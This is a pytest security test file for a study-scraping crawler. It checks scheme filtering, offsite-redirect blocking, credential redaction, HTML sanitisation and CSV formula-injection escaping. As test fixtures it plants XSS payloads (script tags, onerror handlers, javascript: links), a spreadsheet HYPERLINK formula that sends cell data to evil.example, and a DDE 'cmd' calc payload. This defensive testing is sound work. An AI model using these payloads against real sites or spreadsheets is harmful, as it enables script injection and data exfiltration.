"""Security guarantees of a real crawl: what is fetched, logged, stored and exported.

* only http(s) is ever fetched: javascript:, mailto:, ftp:, data: and file: links in pages,
  listings and sitemaps are never requested (an FTP "server" counts connections);
* allowed hosts only: no redirect leaves them, not even after a retry (whose request has
  ``dont_filter``) or through a meta refresh; robots.txt is obeyed;
* credentials in DATABASE_URL and REDIS_URL never appear in logs, stats, crawl records,
  reports or exports;
* stored text is text (no markup, no script), and CSV exports cannot inject formulas.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import socket
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.engine import make_url
from sqlalchemy.orm import Session

from tests.conftest import SITE_DIR, run_scrapy
from tressless_crawler.db.engine import make_engine
from tressless_crawler.db.models import CrawlRun, Study
from tressless_crawler.demo.server import Fault, FaultHook, SiteServer

pytestmark = pytest.mark.e2e

MANIFEST = json.loads((SITE_DIR / "manifest.json").read_text(encoding="utf-8"))
PATHS: dict[str, str] = MANIFEST["expected_study_paths"]
EXPECTED = set(MANIFEST["expected_study_ids"])
DB_SECRET = "s3cr3t-pass"
REDIS_SECRET = "r3dis-s3cret"


class ConnectionCounter:
    """A TCP port that accepts and counts connections (stands in for an FTP server)."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.count = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.count += 1
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def ftp() -> Iterator[ConnectionCounter]:
    counter = ConnectionCounter()
    yield counter
    counter.close()


def copy_site(tmp_path: Path) -> Path:
    site = tmp_path / "site"
    shutil.copytree(SITE_DIR, site, symlinks=True)
    return site


def page_file(site: Path, study_id: str) -> Path:
    return site / PATHS[study_id].lstrip("/") / "index.html"


def crawl(server: SiteServer, db_url: str, tmp_path: Path, *args: str, **settings: str) -> str:
    result = run_scrapy(
        ["crawl", "studies", *args],
        {"SITE_URL": server.url, "DATABASE_URL": db_url, **settings},
        tmp_path,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    return result.stderr


def stored(db_url: str) -> tuple[dict[str, dict], CrawlRun]:
    engine = make_engine(db_url)
    try:
        with Session(engine) as session:
            studies = {s.study_id: s.snapshot for s in session.execute(select(Study)).scalars()}
            run = session.execute(
                select(CrawlRun).order_by(CrawlRun.id.desc()).limit(1)
            ).scalar_one()
    finally:
        engine.dispose()
    return studies, run


# -- only http(s) ----------------------------------------------------------------------------------


def other_scheme_links(ftp_port: int, other_url: str) -> list[str]:
    """Links that look like study links but must never be fetched."""
    return [
        f"ftp://127.0.0.1:{ftp_port}/research/ftp-study-Ftp1",
        "javascript:fetch('/research/js-study-Js01')",
        "mailto:someone@example.com?subject=/research/mail-study-Ma01",
        "data:text/html,<a href='/research/data-study-Da01'>x</a>",
        "file:///research/file-study-Fi01",
        f"{other_url.replace('http:', '')}/research/protocol-relative-Pr0t",  # //other-host/...
    ]


def plant_links(site: Path, links: list[str], ftp_port: int) -> None:
    """Put the links in a study's research list, on the home page and in a sitemap."""
    cards = "".join(
        f'<a class="css-fsjvmt" href="{link.replace(chr(34), "&quot;")}">'
        f"<div>Planted study {i}</div>"
        f"<div>3 citations, <span>March 2012</span> in “Planted Journal”</div><p>Planted.</p></a>"
        for i, link in enumerate(links)
    )
    page = page_file(site, "Wn3a")
    html = page.read_text(encoding="utf-8")
    anchor = '<div class="css-gg08w5">'
    assert anchor in html
    page.write_text(html.replace(anchor, anchor + cards, 1), encoding="utf-8")
    home = site / "index.html"
    home.write_text(
        home.read_text(encoding="utf-8").replace("</body>", cards + "</body>"), encoding="utf-8"
    )
    sitemap = site / "sitemaps" / "research-1.xml"
    entry = f"<url><loc>ftp://127.0.0.1:{ftp_port}/research/ftp-sitemap-study-Fs01</loc></url>"
    text = sitemap.read_text(encoding="utf-8")
    sitemap.write_text(text.replace("</urlset>", entry + "</urlset>"), encoding="utf-8")


@pytest.mark.parametrize("discovery", ["sitemap", "listings"])
def test_only_http_links_are_ever_requested(
    discovery: str, tmp_path: Path, sqlite_url: str, ftp: ConnectionCounter
) -> None:
    site = copy_site(tmp_path)
    with SiteServer(SITE_DIR, host="127.0.0.2") as other, SiteServer(site) as server:
        plant_links(site, other_scheme_links(ftp.port, other.url), ftp.port)
        crawl(
            server, sqlite_url, tmp_path, *(["-a", "listings=1"] if discovery == "listings" else [])
        )
        assert other.requests == []
        paths = [r.path for r in server.requests]
    assert ftp.count == 0
    planted = ("Ftp1", "Js01", "Ma01", "Da01", "Fi01", "Pr0t", "Fs01")
    assert not [p for p in paths if p.endswith(planted)], paths
    studies, run = stored(sqlite_url)
    assert set(studies) == EXPECTED
    assert run.status == "finished"
    # robots.txt is obeyed: the disallowed study is never requested.
    assert MANIFEST["disallowed"]["path"] not in paths
    if discovery == "sitemap":
        assert run.stats["failures/robots_forbidden"] == 1


# -- allowed hosts only ----------------------------------------------------------------------------


def test_no_redirect_leaves_the_allowed_hosts_even_after_a_retry(
    tmp_path: Path, sqlite_url: str
) -> None:
    escape, refresh, scheme = "Cf9e", "66Gn", "Ad7p"
    with SiteServer(SITE_DIR, host="127.0.0.2") as other:
        elsewhere = other.url + PATHS[escape]
        target = other.url + PATHS[refresh]
        meta_refresh = f'<html><head><meta http-equiv="refresh" content="0; url={target}"></head>'
        faults: dict[str, FaultHook] = {
            # A retried request has dont_filter=True: Scrapy's offsite filter lets its redirect out.
            PATHS[escape]: lambda r: (
                Fault(status=503)
                if r.hit == 1
                else Fault(status=301, headers={"Location": elsewhere})
            ),
            PATHS[refresh]: lambda r: Fault(status=503) if r.hit == 1 else Fault(body=meta_refresh),
            PATHS[scheme]: Fault(
                status=302, headers={"Location": "ftp://127.0.0.1:21/research/x-Ad7p"}
            ),
        }
        with SiteServer(SITE_DIR, faults=faults) as server:
            crawl(server, sqlite_url, tmp_path, RETRY_BACKOFF_BASE="0.1")
        assert other.requests == []
    studies, run = stored(sqlite_url)
    assert set(studies) == EXPECTED - {escape, refresh, scheme}
    assert run.stats["failures/offsite_redirect"] == 2
    assert run.stats["failures/bad_scheme"] == 1


# -- credentials -----------------------------------------------------------------------------------


def test_credentials_never_appear_in_logs_stats_records_reports_or_exports(
    site_server: SiteServer, postgres_url: str, redis_url: str, tmp_path: Path
) -> None:
    database_url = (
        make_url(postgres_url).set(password=DB_SECRET).render_as_string(hide_password=False)
    )
    redis = make_url(redis_url)  # redis://host:port/db -> redis://default:SECRET@host:port/db
    redis_with_password = (
        f"redis://default:{REDIS_SECRET}@{redis.host}:{redis.port or 6379}/{redis.database or 0}"
    )
    assert (
        DB_SECRET in database_url
    )  # PostgreSQL trusts 127.0.0.1: the password is ignored, not refused
    log_file = tmp_path / "crawl.log"
    settings = {
        "SITE_URL": site_server.url,
        "DATABASE_URL": database_url,
        "REDIS_URL": redis_with_password,
        "REDIS_KEY_PREFIX": f"test-{uuid.uuid4().hex[:8]}",
        "REDIS_IDLE_TIMEOUT": "1",
        "SHARED_RATE_LIMIT": "0",
    }
    outputs: list[str] = []

    def scrapy(*args: str, **extra: str) -> str:
        result = run_scrapy(list(args), {**settings, **extra}, tmp_path)
        assert result.returncode == 0, result.stderr[-3000:]
        outputs.append(result.stdout + result.stderr)
        return result.stdout + result.stderr

    scrapy("seed", "studies")
    scrapy("crawl", "studies", LOG_FILE=str(log_file), LOG_LEVEL="DEBUG")
    outputs.append(log_file.read_text(encoding="utf-8"))
    assert "Overridden settings" in outputs[-1] and "***" in outputs[-1]  # logged, redacted
    # At DEBUG Scrapy's line for every page and item is there (and checked below for secrets).
    assert "Crawled (200)" in outputs[-1] and "Scraped from <200" in outputs[-1]
    scrapy("report")
    for what, fmt in (("runs", "json"), ("runs", "csv"), ("studies", "csv"), ("studies", "jsonl")):
        out = tmp_path / f"{what}.{fmt}"
        scrapy("export", what, "--format", fmt, "-o", str(out))
        outputs.append(out.read_text(encoding="utf-8"))
    scrapy("db", "current")
    scrapy("db", "replay", "--journal", str(tmp_path / "journal"))

    studies, run = stored(database_url)
    assert (
        set(studies) == EXPECTED and run.status == "finished"
    )  # the crawl really ran through both
    outputs += [json.dumps(run.settings), json.dumps(run.stats)]
    for text in outputs:
        assert DB_SECRET not in text and REDIS_SECRET not in text
    assert run.settings["DATABASE_URL"].startswith("postgresql+psycopg://postgres:***@")
    assert run.settings["REDIS_URL"].startswith("redis://default:***@")


# -- stored text, exported CSV ---------------------------------------------------------------------


def test_stored_text_is_text_and_csv_exports_are_injection_safe(
    tmp_path: Path, sqlite_url: str
) -> None:
    site = copy_site(tmp_path)
    markup, formula, minus = "Wn3a", "Cf9e", "66Gn"
    page = page_file(site, markup)
    html = page.read_text(encoding="utf-8")
    tldr = "TLDR</span>\n        Valproic acid spray increased hair count compared with placebo."
    hostile = (
        "TLDR</span>\n        Valproic acid <b>increased</b> hair count"
        '<script>alert("pwned")</script>'
        '<style>p{color:red}</style><iframe src="javascript:alert(2)"></iframe>'
        ' compared with <a href="javascript:alert(3)">placebo</a>.'
    )
    summary = '<p class="css-hq4611">'
    assert html.count(tldr) == 1 and html.count(summary) == 1
    html = html.replace(tldr, hostile).replace(
        summary,
        '<img src="x" onerror="alert(1)"><noscript><img src=x onerror=alert(4)></noscript>'
        + summary,
    )
    page.write_text(html, encoding="utf-8")
    for study_id, title in (
        (formula, '=HYPERLINK("http://evil.example/?x="&A1,"Open")'),
        (minus, "-2+3+cmd|' /C calc'!A0"),
    ):
        path = page_file(site, study_id)
        text = path.read_text(encoding="utf-8")
        h1_start = text.index("<h1")
        h1_end = text.index("</h1>", h1_start)
        open_end = text.index(">", h1_start) + 1
        path.write_text(
            text[:open_end] + title.replace("&", "&amp;").replace('"', "&quot;") + text[h1_end:],
            encoding="utf-8",
        )

    with SiteServer(site) as server:
        crawl(server, sqlite_url, tmp_path)
    studies, _run = stored(sqlite_url)
    assert studies[markup]["tldr"] == "Valproic acid increased hair count compared with placebo."
    for snapshot in studies.values():
        for value in _strings(snapshot):
            assert "<" not in value or "://" in value, value
            assert "alert(" not in value and "color:red" not in value, value
    assert studies[formula]["title"].startswith("=HYPERLINK")  # stored as the site shows it

    out = tmp_path / "studies.csv"
    result = run_scrapy(
        ["export", "studies", "--format", "csv", "-o", str(out)],
        {"DATABASE_URL": sqlite_url},
        tmp_path,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    rows = {
        row["study_id"]: row for row in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))
    }
    assert rows[formula]["title"] == "'" + studies[formula]["title"]
    assert rows[minus]["title"] == "'" + studies[minus]["title"]
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)
